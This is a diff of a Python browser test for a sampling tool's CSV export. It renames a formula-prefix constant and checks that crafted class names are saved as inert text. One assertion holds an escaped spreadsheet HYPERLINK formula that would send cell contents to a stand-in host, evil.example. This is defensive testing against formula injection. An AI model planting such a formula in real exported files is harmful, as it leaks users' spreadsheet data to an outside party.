@@ -12,7 +12,7 @@ import numpy as np
 import pytest
 
 from sampler_core import ClassCounts, Linear, PowerSkew, SamplingPlan
-from sampler_core.exporting.csv_tables import STARTS
+from sampler_core.exporting.csv_tables import FORMULA_STARTS
 from tests.browser.conftest import ROOT, running_server, settle, tiles, traces
 from tests.hostile_names import hostile_counts
 
@@ -183,7 +183,7 @@ def test_hostile_names_are_data_in_all_that_share_hands_out(hostile_page, browse
     assert dict(zip(plan.tuned_on.names, plan.tuned_on.counts.tolist(), strict=True)) == HOSTILE
     text = saved("Tables", "Share of every class").read_text(encoding="utf-8-sig")
     rows = list(csv.reader(io.StringIO(text, newline="")))
-    assert not any(cell.startswith(STARTS) for row in rows for cell in row)
+    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
     assert any(cell == '\'=HYPERLINK("http://evil.example/?"&A1,"click")' for row in rows for cell in row)
     dialog.get_by_role("tab", name="Code").click()
     names = {}
